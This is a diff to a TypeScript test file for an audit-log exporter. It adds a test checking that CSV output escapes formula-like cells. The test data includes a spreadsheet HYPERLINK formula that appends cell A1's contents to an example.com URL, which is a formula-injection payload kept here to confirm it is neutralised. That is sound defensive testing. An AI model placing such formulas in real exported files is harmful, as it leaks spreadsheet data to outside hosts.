@@ -2,6 +2,7 @@ import { describe, expect, test } from 'vitest'
 import { ask, callPart, createWorld, doublingTool, openTab, say } from '../../conversation/testing/open-tab.ts'
 import { changeOne } from '../../ledger/ledger.ts'
 import { type AuditRow, auditRows } from './audit-rows.ts'
+import { csvText } from './csv-text.ts'
 import { auditCsv, auditJsonLines } from './write-audit.ts'
 
 test('every call that ran is a row for each of its effects, with who allowed it and by which rule', async () => {
@@ -94,6 +95,17 @@ describe('the file for a spreadsheet', () => {
         for (const part of text.split(divider)) expect(part).not.toMatch(/^[\s\p{Cf}"]*[=@]/u)
     },
   )
+  test('numbers stay numbers, and what looks like a formula beside them is text', () => {
+    expect(
+      csvText(
+        ['=a', 'b'],
+        [
+          ['=HYPERLINK("https://example.com/?"&A1)', -5],
+          [null, true],
+        ],
+      ),
+    ).toBe('\'=a,b\r\n"\'=HYPERLINK(""https://example.com/?""&A1)",-5\r\n,true\r\n')
+  })
   test('a line of JSON holds the same', () => {
     expect(JSON.parse(auditJsonLines([row]))).toEqual({ ...row, at: '1970-01-01T00:00:00.000Z' })
   })
